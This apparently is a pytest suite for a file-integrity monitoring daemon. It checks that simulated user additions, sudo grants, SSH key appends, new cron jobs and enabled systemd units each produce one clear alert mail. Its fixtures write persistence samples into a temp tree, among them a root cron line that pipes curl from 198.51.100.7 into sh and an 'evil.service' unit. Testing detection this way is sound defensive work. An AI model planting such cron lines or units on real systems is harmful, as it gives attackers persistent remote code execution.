"""One change, one message, saying what it means (issue 15), end to end:
the daemon watches a temp tree holding copies of the files the real tools
change (passwd, shadow, group, gshadow, subuid, subgid, authorized_keys,
cron.d, systemd units), the change is made the way the tool makes it
(backup `X-`, then write `X+` and rename it over `X`, as shadow-utils'
useradd/usermod do), and the mail goes through msmtp into an SMTP server
(tests/alerts_helpers.py). Each case expects exactly one mail whose first
body line says what happened in words. useradd itself cannot run here (it
writes the real /etc); tests/system does that in a container."""

import os
import subprocess
import sys

import pytest

from alerts_helpers import SMTPReceiver, msmtp_sendmail, poll
from conftest import write

GATHER = 1.0
PASSWD = "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
SHADOW = "root:$y$j9T$SaltSaltSalt$RootHashRootHashRootHash:19000:0:99999:7:::\n" \
         "alice:$y$j9T$AliceSalt$AliceHashAliceHash:19000:0:99999:7:::\n"
GROUP = "root:x:0:\nsudo:x:27:\nalice:x:1000:\n"
GSHADOW = "root:*::\nsudo:*::\nalice:!::\n"
SHADOWS = ("shadow", "gshadow")


@pytest.fixture
def smtp():
    srv = SMTPReceiver()
    yield srv
    srv.stop()


def like_shadow_utils(etc, name, new):
    """Write new the way useradd/usermod do: the lock (NAME.PID linked to
    NAME.lock), a backup NAME- of the old content, NAME+ renamed over NAME,
    the lock removed. The lock files live for milliseconds: `transient`
    events that belong to this change, not alerts of their own."""
    mode = 0o640 if name in SHADOWS else 0o644
    tmp, lock = etc / ("%s.%d" % (name, os.getpid())), etc / (name + ".lock")
    write(tmp, "%d" % os.getpid())
    os.link(tmp, lock)
    os.unlink(tmp)
    write(etc / (name + "-"), (etc / name).read_bytes(), mode)
    write(etc / (name + "+"), new, mode)
    os.rename(etc / (name + "+"), etc / name)
    os.unlink(lock)


def useradd(etc):
    adds = {"passwd": "eviltest:x:1001:1001::/home/eviltest:/bin/sh\n",
            "shadow": "eviltest:!:20423:0:99999:7:::\n", "group": "eviltest:x:1001:\n",
            "gshadow": "eviltest:!::\n", "subuid": "eviltest:100000:65536\n",
            "subgid": "eviltest:100000:65536\n"}
    for name, line in adds.items():
        like_shadow_utils(etc, name, (etc / name).read_text() + line)


def usermod_aG_sudo(etc):
    like_shadow_utils(etc, "group", GROUP.replace("sudo:x:27:", "sudo:x:27:alice"))
    like_shadow_utils(etc, "gshadow", GSHADOW.replace("sudo:*::", "sudo:*::alice"))


def key_append(home, keydir):
    k = keydir / "k"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "mallory@evil",
                    "-f", str(k)], check=True)
    with open(home / ".ssh" / "authorized_keys", "ab") as f:
        f.write((keydir / "k.pub").read_bytes())
    return subprocess.run(["ssh-keygen", "-lf", str(k) + ".pub"], check=True,
                          capture_output=True, text=True).stdout.split()[1]


def new_cron(etc):
    write(etc / "cron.d" / "evil", "*/5 * * * * root curl -s http://198.51.100.7/x | sh\n")


def new_enabled_unit(etc):
    unit = etc / "systemd" / "system" / "evil.service"
    write(unit, "[Unit]\nDescription=not evil\n[Service]\nExecStart=/usr/local/bin/evil -q\n"
          "[Install]\nWantedBy=multi-user.target\n")
    os.symlink(str(unit), str(etc / "systemd" / "system" / "multi-user.target.wants" /
                              "evil.service"))


@pytest.fixture
def world(fim, smtp):
    etc = fim.root / "etc"
    for d in ("cron.d", "systemd/system/multi-user.target.wants"):
        (etc / d).mkdir(parents=True)
    for name, text in (("passwd", PASSWD), ("shadow", SHADOW), ("group", GROUP),
                       ("gshadow", GSHADOW), ("subuid", ""), ("subgid", "")):
        write(etc / name, text, 0o640 if name in SHADOWS else 0o644)
        # the backup of the change before the last one, as on a real system
        write(etc / (name + "-"), "\n".join(text.split("\n")[:1]),
              0o640 if name in SHADOWS else 0o644)
    home = fim.root / "root"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    write(home / ".ssh" / "authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 a@b\n",
          0o600)
    sm = msmtp_sendmail(fim.base / "mta", smtp.port)
    fim.write_config(email={"enabled": "yes", "to": "admin@example.test", "sendmail": str(sm),
                            "min_severity": "warning", "retry_min": "1s"},
                     fimwatch={"diff_paths": "%s/**" % fim.root},
                     severity={"critical": "%s/etc/** %s/root/**" % (fim.root, fim.root),
                               "info": ""})
    return fim, etc, home


def one_mail(smtp):
    """The one mail of one change: waits for it, then one more gather window
    (and a half) to be sure no second mail follows."""
    poll(lambda: smtp.received(), timeout=20, what="a mail")
    import time
    time.sleep(GATHER * 2.5)
    mails = smtp.received()
    assert len(mails) == 1, [(m.msg["Subject"], m.body()[:400]) for m in mails]
    one_mail.msg = mails[0].msg
    return mails[0].msg["Subject"], mails[0].body()


def html_part(msg):
    """The HTML alternative: everything in it must also be in the plain text."""
    part = msg.get_body(("html",))
    assert part is not None and msg.get_content_type() == "multipart/alternative"
    return part.get_content()


def show(capsys, subject, body):
    with capsys.disabled():
        sys.stdout.write("\n--- %s\n%s\n" % (subject, "\n".join(body.splitlines()[:14])))


def mail_after(fim, smtp, capsys, action, *args):
    """Start the daemon, do what one admin command does, and return the one
    mail it sends (subject, body) and what the action returned."""
    fim.daemon()
    got = action(*args)
    subject, body = one_mail(smtp)
    show(capsys, subject, body)
    return subject, body, got


def test_useradd_is_one_mail_saying_the_user_was_added(world, smtp, capsys):
    fim, etc, _ = world
    subject, body, _ = mail_after(fim, smtp, capsys, useradd, etc)
    first = "CRITICAL on testhost: user eviltest (uid 1001) added; group eviltest (gid 1001) added"
    assert body.splitlines()[0] == first
    assert subject == "[fimwatch] CRITICAL user eviltest (uid 1001) added; group eviltest " \
                      "(gid 1001) added on testhost (10 files)"     # subuid-, subgid- were empty
    assert body.splitlines()[1].startswith("Who:")
    assert body.splitlines()[2].startswith("Next: expected")
    for name in ("passwd", "shadow", "group", "gshadow", "subuid", "subgid"):
        assert "%s/%s\n" % (etc, name) in body or "%s/%s " % (etc, name) in body, name
        if name not in ("subuid", "subgid"):          # their backups were empty already
            assert "%s/%s-  (backup)" % (etc, name) in body, name
    assert "+eviltest:x:1001:1001::/home/eviltest:/bin/sh" in body     # passwd's diff
    html = html_part(one_mail.msg)
    assert "<b>CRITICAL on testhost: user eviltest (uid 1001) added;" in html
    assert "<td>%s/passwd- (backup)</td>" % etc in html
    assert "<td>user eviltest (uid 1001) added</td>" in html
    for secret in ("SaltSalt", "RootHash", "AliceHash", "$y$"):
        assert secret not in body


def test_usermod_aG_sudo_is_one_mail(world, smtp, capsys):
    fim, etc, _ = world
    subject, body, _ = mail_after(fim, smtp, capsys, usermod_aG_sudo, etc)
    assert body.splitlines()[0] == "CRITICAL on testhost: alice added to group sudo"
    assert "alice added to group sudo on testhost (4 files)" in subject


def test_authorized_keys_append_is_one_mail_with_the_fingerprint(world, smtp, capsys):
    fim, _, home = world
    subject, body, fp = mail_after(fim, smtp, capsys, key_append, home, fim.outside)
    assert body.splitlines()[0] == \
        "CRITICAL on testhost: SSH key added: ssh-ed25519 %s mallory@evil" % fp
    assert subject.startswith("[fimwatch] CRITICAL modified %s/.ssh/authorized_keys on "
                              "testhost: SSH key added: ssh-ed" % home)    # capped at 160
    html = html_part(one_mail.msg)
    assert "<td>mode</td><td>0600</td><td>0600</td>" in html and fp in html


def test_new_cron_job_is_one_mail_with_its_content(world, smtp, capsys):
    fim, etc, _ = world
    subject, body, _ = mail_after(fim, smtp, capsys, new_cron, etc)
    assert body.splitlines()[0] == "CRITICAL on testhost: cron job added: */5 * * * * as " \
                                   "root: curl -s http://198.51.100.7/x | sh"
    assert "+*/5 * * * * root curl -s http://198.51.100.7/x | sh" in body   # diff from nothing


def test_new_enabled_unit_is_one_mail(world, smtp, capsys):
    fim, etc, _ = world
    subject, body, _ = mail_after(fim, smtp, capsys, new_enabled_unit, etc)
    assert body.splitlines()[0] == \
        "CRITICAL on testhost: unit evil.service added: ExecStart=/usr/local/bin/evil -q, " \
        "WantedBy=multi-user.target; unit evil.service enabled (multi-user.target.wants)"
    assert "+ExecStart=/usr/local/bin/evil -q" in body


def test_syslog_line_carries_the_summary(world, tmp_path):
    import socket
    from test_syslog import receive
    fim, etc, _ = world
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.bind(str(tmp_path / "devlog"))
    try:
        fim.write_config(syslog={"enabled": "yes", "address": str(tmp_path / "devlog"),
                                 "facility": "authpriv", "min_severity": "info"},
                         fimwatch={"diff_paths": "%s/**" % fim.root},
                         severity={"critical": "%s/etc/**" % fim.root, "info": ""})
        fim.daemon()
        usermod_aG_sudo(etc)
        line = receive(s, b"%s/group " % os.fsencode(str(etc))).decode()
        assert ' summary="alice added to group sudo" ' in line, line
        line = receive(s, b"%s/gshadow " % os.fsencode(str(etc))).decode()
        assert ' summary="alice added to group sudo" ' in line, line
    finally:
        s.close()
